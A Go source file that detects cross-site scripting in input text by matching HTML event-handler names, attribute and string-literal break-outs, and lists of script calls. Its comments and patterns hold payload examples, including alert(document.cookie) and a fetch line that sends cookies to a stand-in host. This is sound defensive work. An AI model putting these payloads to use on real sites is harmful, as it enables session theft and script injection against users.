package text

import "strings"

// eventNames are the stems of HTML's event handlers, without "on".
var eventNames = wordSet(`abort activate afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick
 beforeactivate beforecopy beforecut beforeeditfocus beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload begin blur
 bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick deactivate drag dragend
 dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error filterchange finish focus focusin focusout
 formdata fullscreenchange gesturestart gestureend gesturechange gotpointercapture hashchange help input invalid keydown keypress keyup load loadeddata loadedmetadata
 loadend loadstart lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
 mousewheel moveend movestart offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter
 pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange
 repeat reset resize scroll scrollend scrollsnapchange search seeked seeking select selectionchange selectstart show start
 stalled storage submit suspend timeout timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend
 transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkitanimationstart webkitmouseforcechanged
 webkitplaybacktargetavailabilitychanged webkittransitionend webkitwillrevealbottom wheel dataavailable datasetchanged rowenter rowexit
 losecapture resizestart resizeend controlselect layoutcomplete outofsync mediacomplete mediaerror securitypolicyviolation slotchange
 zoom`)

// eventName reports whether name is an event handler's: onload, onerror…
func eventName(name string) bool {
	return len(name) > 4 && prefixFold(name, "on") && (lookFold(eventNames, name[2:]) != "" || prefixFold(name, "onwebkit"))
}

// attributeBreak looks for an event handler the value brings into a tag it
// was put into: after a blank, quote or slash, a known handler, =, and code.
func attributeBreak(s string) (from, to int, hit bool) {
	reach := newReach(s)
	if at := indexFold(s, "style"); at > 0 {
		if from, to, hit := styleBreak(s, at); hit {
			return from, to, true
		}
	}
	for at := 0; ; {
		i := indexFold(s[at:], "on")
		if i < 0 {
			return 0, 0, false
		}
		i += at
		at = i + 2
		if i > 0 && !isSpace(s[i-1]) && strings.IndexByte("\"'`/,;\x00", s[i-1]) < 0 {
			continue
		}
		n := wordEnd(s, i)
		k := skipSpace(s, n)
		if k >= len(s) || s[k] != '=' || !eventName(s[i:n]) {
			continue
		}
		value, end := attributeValue(reach.from(s, k), k+1)
		reach.read(end - k)
		if handlerCode(value) && !((plainHandler(value) || quotedAt(s, k+1) && quietCode(value)) && strings.IndexByte(s[:i], '<') >= 0 && !breaksOut(s)) {
			start := i
			for start > 0 && strings.IndexByte("\"'` /\t\n", s[start-1]) >= 0 {
				start--
			}
			return start, end, true
		}
	}
}

// styleBreak judges a style attribute at s[at] that the value brings into a tag
// it was put into.
func styleBreak(s string, at int) (from, to int, hit bool) {
	if !isSpace(s[at-1]) && strings.IndexByte("\"'`/", s[at-1]) < 0 || strings.IndexByte(s[:at], '<') >= 0 {
		return 0, 0, false
	}
	k := skipSpace(s, at+5)
	if k >= len(s) || s[k] != '=' || !strings.ContainsAny(s[:at], "\"'`") {
		return 0, 0, false
	}
	value, end := attributeValue(s, k+1)
	return at, end, runningAttribute("", "style", value)
}

// handlerCode reports that a handler's value is code: a call, a tagged
// template, an assignment.
func handlerCode(v string) bool {
	if v == "" || v[0] == '{' || v[0] == '=' {
		return false
	}
	if strings.ContainsAny(v, "(`") || strings.Contains(v, "&#") || strings.Contains(v, "&lpar;") {
		return true
	}
	_, w := indexAnyFold(v, []string{"location=", "location.", "document.", "window.", "javascript:", "alert", "throw", "eval"})
	return w != ""
}

// scriptCalls are what proofs of script injection call.
var scriptCalls = []string{"alert(", "alert`", "prompt(", "prompt`", "confirm(", "confirm`", "eval(", "document.cookie", "document.write", "document.location", "document.domain",
	"window.location", "location=", "location.href", "fromcharcode", "fetch(", "settimeout(", "setinterval(", "atob(", "import(", "constructor(", "xmlhttprequest", "console.log(", "print(", "top[", "self[", "window[", "globalthis["}

// scriptBreak looks for the rest of a string literal of a script: a quote, an
// operator or the end of the statement, and a call.
func scriptBreak(s string) (from, to int, hit bool) {
	if i := strings.Index(s, "${"); i >= 0 && words(s[:i], 3) < 3 && codeAt(s[i+2:]) > 0 {
		return i, len(s), true // the hole of a template string
	}
	for i := 0; i < len(s); i++ {
		q := s[i]
		if q != '\'' && q != '"' && q != '`' && q != '}' && q != ')' {
			continue
		}
		j := i + 1
		for j < len(s) && (isSpace(s[j]) || s[j] == ')' || s[j] == '}' || s[j] == ']') {
			j++
		}
		if j >= len(s) || strings.IndexByte(";+-*,|&^/%?", s[j]) < 0 && !(j == i+1 && (strings.HasPrefix(s[j:], "in ") || strings.HasPrefix(s[j:], "instanceof "))) {
			continue
		}
		op := j
		for _, w := range [...]string{"instanceof ", "in "} {
			if strings.HasPrefix(s[j:], w) {
				j += len(w)
			}
		}
		for j < len(s) && (isSpace(s[j]) || strings.IndexByte(";+-*,|&^/%?(!~{[", s[j]) >= 0) {
			j++
		}
		if c := codeAt(s[j:]); c > 0 && closesAgain(s, j+c, q) && !(q == ')' || q == '}') || c > 0 && (q == '}' || q == ')') && i < 3 && s[op] == ';' {
			return i, len(s), true
		}
	}
	if len(s) < 400 && soleCall(s) {
		return 0, len(s), true
	}
	return 0, 0, false
}

// codeAt returns the length of the telling call s begins with.
func codeAt(s string) int {
	for _, w := range []string{"window.", "self.", "top.", "this.", "globalthis."} {
		if prefixFold(s, w) && len(s) > len(w) {
			if n := codeAt(s[len(w):]); n > 0 {
				return n + len(w)
			}
		}
	}
	for _, w := range scriptCalls {
		if prefixFold(s, w) {
			return len(w)
		}
	}
	return 0
}

// closesAgain reports that the value comes back to a string with the same
// quote, comments the rest out, or ends after the call.
func closesAgain(s string, i int, q byte) bool {
	rest := s[i:]
	return strings.IndexByte(rest, q) >= 0 || strings.Contains(rest, "//") || strings.Contains(rest, "/*") || strings.Contains(rest, "<!--") ||
		strings.HasSuffix(strings.TrimRight(rest, " ;\t"), ")")
}

// bracketName reports ["name"] with nothing but comments before it.
func bracketName(t string) bool {
	for {
		t = strings.TrimLeft(t, " \t")
		if !strings.HasPrefix(t, "/*") {
			break
		}
		_, after, ok := strings.Cut(t, "*/")
		if !ok {
			return false
		}
		t = after
	}
	if !strings.HasPrefix(t, "[") {
		return false
	}
	t = strings.TrimLeft(t[1:], " \t")
	if strings.HasPrefix(t, "/*") {
		return strings.Contains(t, "*/")
	}
	return t != "" && (t[0] == '"' || t[0] == '\'' || t[0] == '`') && strings.IndexByte(t, ']') > 0
}

// soleCall reports a value that is nothing but a proof: alert(document.cookie).
func soleCall(s string) bool {
	t := strings.TrimSpace(s)
	if proofCall(t) || codeAlone(t) {
		return true
	}
	for _, w := range []string{"window", "self", "top", "globalthis", "this", "parent", "frames", "(document)", "document"} {
		if prefixFold(t, w) && (bracketName(t[len(w):]) || strings.HasPrefix(t[len(w):], "?.")) {
			return true // self["alert"](1)
		}
	}
	for _, w := range []string{"alert(", "prompt(", "confirm("} {
		if prefixFold(t, w) && strings.HasSuffix(strings.TrimRight(t, ";/ "), ")") {
			_, hit := indexAnyFold(t, []string{"document.", "cookie", "domain", "fromcharcode", "window.", "(origin)", "(location)", "(name)", "(document)"})
			return hit != ""
		}
	}
	return false
}

// codeAlone reports a value that is a script as a whole, of those that prove or
// steal: top.alert(1), [1].find(alert), fetch('//x.example/?'+document.cookie).
func codeAlone(t string) bool {
	if len(t) > 300 || strings.Count(t, " ") > 3 {
		return false
	}
	if d := strings.TrimLeft(t, "0123456789"); d != t && d != "" && strings.IndexByte(";-+*,|&/", d[0]) >= 0 && strings.HasSuffix(t, ")") {
		if c := strings.TrimLeft(d, ";-+*,|&/ "); prefixFold(c, "alert(") || prefixFold(c, "prompt(") || prefixFold(c, "confirm(") || prefixFold(c, "eval(") {
			return true // 1;alert(1)
		}
	}
	for _, w := range [...]string{"top.", "self.", "parent.", "globalthis.", "frames."} {
		if prefixFold(t, w) && (prefixFold(t[len(w):], "alert(") || prefixFold(t[len(w):], "prompt(") || prefixFold(t[len(w):], "confirm(") || prefixFold(t[len(w):], "eval(")) {
			return true
		}
	}
	for _, w := range [...]string{"import('", "import(\"", "import(`", "fetch('", "fetch(\"", "fetch(`", "$.getscript('", "$.getscript(\"", "jquery.getscript("} {
		if prefixFold(t, w) && (strings.HasPrefix(t[len(w):], "//") || prefixFold(t[len(w):], "http") || prefixFold(t[len(w):], "data:")) {
			return true
		}
	}
	if _, w := indexAnyFold(t, []string{".find(alert)", ".map(alert)", ".foreach(alert)", ".some(alert)", ".every(alert)", ",alert)", "(alert,", "onerror=eval", "onerror=alert", "function`"}); w != "" {
		return true
	}
	if i := indexFold(t, "constructor("); i >= 0 && strings.Contains(t[i:], ")()") {
		_, w := indexAnyFold(t[i:], []string{"alert", "prompt", "confirm", "eval", "fetch", "cookie"})
		return w != ""
	}
	return indexFold(t, "document.cookie") > 0 && (strings.Contains(t, "//") || indexFold(t, "sendbeacon") >= 0)
}

// proofCall reports a call of alert and its like by a way that none but a proof
// takes: alert`1`, alert.call(…), alert?.(…), (alert)(1), eval(atob(…)).
func proofCall(t string) bool {
	t = strings.TrimLeft(t, "(;+-!~ \"'")
	for _, w := range []string{"alert", "prompt", "confirm", "eval", "print", "settimeout", "setinterval", "function"} {
		if !prefixFold(t, w) {
			continue
		}
		r := strings.TrimLeft(t[len(w):], " ")
		switch {
		case strings.HasPrefix(r, "`") && w != "print" && w != "function", strings.HasPrefix(r, ".call("), strings.HasPrefix(r, ".apply("), strings.HasPrefix(r, "?.("), strings.HasPrefix(r, ")(") && w != "print",
			strings.HasPrefix(r, "&lpar;"), strings.HasPrefix(r, "(/") && strings.Count(r, "/") >= 2 && w == "alert":
			return true
		case strings.HasPrefix(r, "("):
			_, hit := indexAnyFold(r[:min(len(r), 60)], []string{"atob(", "unescape(", "location.hash", "name)", "string.fromcharcode", "document.cookie", "alert(", "`alert", "\"alert", "'alert"})
			return hit != "" && w != "alert" && w != "print"
		}
	}
	return false
}
